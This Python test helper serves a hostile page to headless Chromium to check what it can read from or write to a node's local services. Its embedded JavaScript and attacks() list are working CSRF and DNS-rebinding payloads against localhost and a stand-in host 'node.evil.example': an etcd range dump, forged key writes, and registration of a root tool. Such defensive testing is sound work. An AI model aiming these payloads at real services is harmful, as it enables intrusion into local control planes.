"""Open a hostile web page in a real Chromium and collect what the page could read from a node."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

REBOUND = "node.evil.example"
"""A DNS name that the page's owner rebinds to the browser's own machine."""
PAGE_SECONDS = 90.0
_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",
)

# What a hostile page can do without interaction. Each entry of `got` is something the page read.
PAGE = """<!doctype html><meta charset=utf-8><body><script>
const targets = TARGETS, got = [], tried = [];
const limit = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 15000))]);
async function attempt(how, url, options, read) {
  for (const credentials of ['omit', 'include']) {
    tried.push(`${how} ${url} ${credentials}`);
    try {
      const answer = await limit(fetch(url, {...options, credentials}));
      const text = answer && read ? await limit(answer.text()) : '';
      if (text) got.push({how, url, status: answer.status, text: text.slice(0, 200)});
    } catch (error) { /* refused: as it should be */ }
  }
}
function element(how, url, make) {
  tried.push(`${how} ${url}`);
  return limit(new Promise((done) => {
    const made = make();
    made.onload = () => { if (how !== 'frame') got.push({how, url}); done(); };
    made.onerror = done;
    document.body.append(made);
  }));
}
function frame(url) {
  const made = Object.assign(document.createElement('iframe'), {src: url});
  setTimeout(() => { try { if (made.contentDocument && made.contentDocument.URL !== 'about:blank')
    got.push({how: 'frame', url}); } catch (error) { /* another origin */ } }, 1500);
  return made;
}
function form(url, body) {
  tried.push(`form ${url}`);
  const made = document.createElement('form');
  const sink = Object.assign(document.createElement('iframe'), {name: 'sink' + tried.length});
  Object.assign(made, {method: 'post', action: url, enctype: 'text/plain', target: sink.name});
  const field = document.createElement('input');  // name=value becomes the JSON text itself
  field.name = body.slice(0, -1) + ',"_":"'; field.value = '"}';
  made.append(field); document.body.append(sink, made); made.submit();
}
function stream(how, url) {
  tried.push(`${how} ${url}`);
  return limit(new Promise((done) => {
    const made = how === 'socket' ? new WebSocket(url.replace(/^http/, 'ws')) : new EventSource(url);
    made.onopen = () => { got.push({how, url}); done(); };
    made.onmessage = (event) => { got.push({how, url, text: event.data}); done(); };
    made.onerror = done;
  }));
}
(async () => {
  const work = [];
  for (const {url, body} of targets) {
    if (body) {
      const json = {'content-type': 'application/json'};
      work.push(attempt('post', url, {method: 'POST', headers: json, body}, true));
      work.push(attempt('plain', url, {method: 'POST', headers: {'content-type': 'text/plain'}, body}, true));
      work.push(attempt('blind', url, {method: 'POST', mode: 'no-cors', body}, false));
      work.push(attempt('delete', url, {method: 'DELETE'}, true));
      navigator.sendBeacon(url, new Blob([body], {type: 'text/plain'}));
      form(url, body);
    } else {
      work.push(attempt('get', url, {}, true));
      work.push(attempt('blind', url, {mode: 'no-cors'}, true));
      work.push(element('image', url, () => Object.assign(new Image(), {src: url})));
      work.push(element('script', url, () => Object.assign(document.createElement('script'), {src: url})));
      work.push(element('frame', url, () => frame(url)));
      work.push(stream('socket', url), stream('events', url));
    }
  }
  await Promise.all(work);
  await new Promise((done) => setTimeout(done, 2000));
  await fetch('/report', {method: 'POST', body: JSON.stringify({got, tried})});
})();
</script>"""


class HostilePage(ThreadingHTTPServer):
    """Serve the page to a browser and keep the report that the page posts."""

    daemon_threads = True

    def __init__(self, targets: Sequence[dict[str, str]]) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = PAGE.replace("TARGETS", json.dumps(list(targets))).encode()
        self.report: dict[str, Any] = {}
        self.reported = threading.Event()


class _Handler(BaseHTTPRequestHandler):
    server: HostilePage

    def do_GET(self) -> None:
        self._answer(self.server.page if self.path == "/" else b"", "text/html")

    def do_POST(self) -> None:
        self.server.report = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self._answer(b"", "text/plain")
        self.server.reported.set()

    def _answer(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Write no log."""


def chromium() -> str:
    program = shutil.which("chromium")
    if program is None:
        pytest.skip("chromium is not here: run 'scripts/machine.sh browser'")
    return program


def visit(targets: Sequence[dict[str, str]], folder: Path) -> dict[str, Any]:
    """Open the page at its own origin and return its report: `got` (what it read) and `tried`.

    Each target has a `url` and, for a write, the JSON `body`. `folder` holds the browser's profile.
    """
    with _serving(HostilePage(targets)) as page:
        address = f"http://localhost:{page.server_port}/"
        with subprocess.Popen(
            [chromium(), *_FLAGS, f"--user-data-dir={folder}", "--remote-debugging-port=0", address],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ) as browser:
            try:
                assert page.reported.wait(PAGE_SECONDS), "the page has not reported"
            finally:
                browser.terminate()
    return page.report


def read_as_visitor(url: str, folder: Path) -> str:
    """Return the document that a browser shows at `url`, for example a name rebound to this machine."""
    done = subprocess.run(
        [chromium(), *_FLAGS, f"--user-data-dir={folder}", "--dump-dom", url],
        capture_output=True,
        text=True,
        timeout=PAGE_SECONDS,
    )
    return done.stdout


@contextmanager
def _serving(page: HostilePage) -> Iterator[HostilePage]:
    thread = threading.Thread(target=page.serve_forever, daemon=True)
    thread.start()
    try:
        yield page
    finally:
        page.shutdown()
        page.server_close()
        thread.join(10)


def attacks(port: int) -> list[dict[str, str]]:
    """List the requests that a page aware of MAO and etcd would send to a port, under each host name."""
    key, value = "L21hby9mb3JnZWQ=", "Zm9yZ2Vk"  # /mao/forged
    everything = '{"key":"AA==","range_end":"AA=="}'
    put = f'{{"key":"{key}","value":"{value}"}}'
    tool = '{"name":"forged","image":"busybox","privileges":{"user":"root"}}'
    reads = ("/", "/status", "/enrolments", "/events", "/openapi.json", "/metrics", "/v2/keys", "/health")
    writes = (
        ("/v3/kv/range", everything),
        ("/v3beta/kv/range", everything),
        ("/v3/kv/put", put),
        ("/registry/tools", tool),
        ("/pipeline/run", '{"name":"forged"}'),
    )
    found: list[dict[str, str]] = []
    for host in ("127.0.0.1", "localhost", REBOUND):
        found += [{"url": f"http://{host}:{port}{path}"} for path in reads]
        found += [{"url": f"http://{host}:{port}{path}", "body": body} for path, body in writes]
    return found
